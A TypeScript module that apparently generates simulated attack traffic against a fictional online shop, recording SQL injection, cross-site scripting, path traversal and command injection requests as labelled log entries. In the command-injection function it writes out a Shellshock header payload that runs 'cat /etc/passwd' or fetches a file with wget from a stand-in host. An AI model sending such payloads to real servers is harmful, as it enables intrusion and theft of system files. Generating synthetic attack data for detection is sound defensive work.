import { hex } from '../shop/catalogue.ts'
import { categories, firstProduct, products, slugOf } from '../shop/catalogue.ts'
import type { Hit } from '../hit.ts'
import { commandPayload } from '../payloads/command.ts'
import { scriptPayload } from '../payloads/script.ts'
import { sqlPayload } from '../payloads/sql.ts'
import { inclusionPayload, traversalPayload } from '../payloads/traversal.ts'
import { word } from '../payloads/encode.ts'
import type { Visitor } from '../shop/visitor.ts'
import type { Attack } from './campaign.ts'
import { struck } from './outcome.ts'

/** A place of the shop that takes a value, with the value in it. */
function into(visitor: Visitor, value: string): string {
  const { random } = visitor
  const choice = random.uniform()
  if (choice < 0.3) return `/search?q=${value}`
  if (choice < 0.45) return `/product/${slugOf(firstProduct + random.below(products))}?ref=${value}`
  if (choice < 0.6)
    return `/category/${random.pick(categories)}?sort=${value}&page=${1 + random.below(9)}`
  if (choice < 0.75) return `/search?q=${word(random, 5)}&filter=${value}`
  if (choice < 0.9) return `/help/contact?subject=${value}&token=${hex(random.integer32())}`
  return `/account/orders?id=${value}`
}

function injectSql(visitor: Visitor): Hit {
  const { random } = visitor
  const choice = random.uniform()
  const payload = sqlPayload(random)
  if (choice < 0.04) {
    // A tool that does not encode: spaces stay in the target, and servers refuse it.
    const hit = visitor.ask('GET', `/account/orders?id=${decode(payload)}`)
    hit.status = 400
    hit.bytes = 150
    return hit
  }
  if (choice < 0.1) return inHeader(visitor, decode(payload))
  return struck(visitor, visitor.ask(random.chance(0.9) ? 'GET' : 'POST', into(visitor, payload)))
}

function inHeader(visitor: Visitor, text: string): Hit {
  const hit = visitor.ask('GET', '/')
  if (visitor.random.chance(0.5)) hit.agent = text
  else hit.referrer = text
  return struck(visitor, hit)
}

/** A payload as it was before its encoding, on one line. */
function decode(payload: string): string {
  return payload
    .replaceAll('+', ' ')
    .replaceAll(/%(?:25)?([2-7][0-9a-f])/gi, (_, code: string) =>
      String.fromCharCode(Number.parseInt(code, 16)),
    )
    .replaceAll(/%u00([2-7][0-9a-f])/gi, (_, code: string) =>
      String.fromCharCode(Number.parseInt(code, 16)),
    )
}

function injectScript(visitor: Visitor): Hit {
  const { random } = visitor
  const payload = scriptPayload(random)
  if (random.chance(0.05)) return inHeader(visitor, decode(payload))
  return struck(visitor, visitor.ask('GET', into(visitor, payload)))
}

function traverse(visitor: Visitor): Hit {
  const { random } = visitor
  const parameter = random.pick(['file', 'page', 'path', 'template', 'doc', 'lang', 'include'])
  const choice = random.uniform()
  let target = `/help/view?${parameter}=${traversalPayload(random)}`
  if (choice < 0.15) target = `/help/view?${parameter}=${inclusionPayload(random)}`
  else if (choice < 0.45) target = `/static/${traversalPayload(random)}`
  else if (choice < 0.55) target = `/images/p/${traversalPayload(random)}`
  return struck(visitor, visitor.ask('GET', target))
}

function command(visitor: Visitor): Hit {
  const { random } = visitor
  const parameter = random.pick(['host', 'ip', 'cmd', 'name', 'url', 'email'])
  const path = random.pick([
    '/tools/ping',
    '/api/v1/export',
    '/cgi-bin/status',
    '/help/contact',
    '/search',
  ])
  if (random.chance(0.06)) {
    const hit = visitor.ask('GET', '/cgi-bin/status')
    hit.agent = `() { :; }; /bin/bash -c "${random.pick(['id', 'cat /etc/passwd', 'wget http://203.0.113.9/x'])}"`
    return struck(visitor, hit)
  }
  return struck(visitor, visitor.ask('GET', `${path}?${parameter}=${commandPayload(random)}`))
}

/** Attacks whose every request carries a payload. */
export const injections: readonly Attack[] = [
  {
    name: 'sql_injection',
    kind: 'sql_injection',
    minutes: 8,
    attackers: 1,
    base: 'alone',
    guise: 'browser',
    gap: 3000,
    least: 25,
    strike: injectSql,
  },
  {
    name: 'sql_injection/slow',
    kind: 'sql_injection',
    minutes: 300,
    attackers: 1,
    base: 'carrier',
    guise: 'browser',
    gap: 330_000,
    least: 6,
    isSlow: true,
    strike: injectSql,
  },
  {
    name: 'cross_site_scripting',
    kind: 'cross_site_scripting',
    minutes: 6,
    attackers: 1,
    base: 'office',
    guise: 'browser',
    gap: 5000,
    least: 15,
    strike: injectScript,
  },
  {
    name: 'path_traversal',
    kind: 'path_traversal',
    minutes: 5,
    attackers: 1,
    base: 'household',
    guise: 'library',
    gap: 2500,
    least: 20,
    strike: traverse,
  },
  {
    name: 'command_injection',
    kind: 'command_injection',
    minutes: 5,
    attackers: 1,
    base: 'alone',
    guise: 'library',
    gap: 4000,
    least: 15,
    strike: command,
  },
]
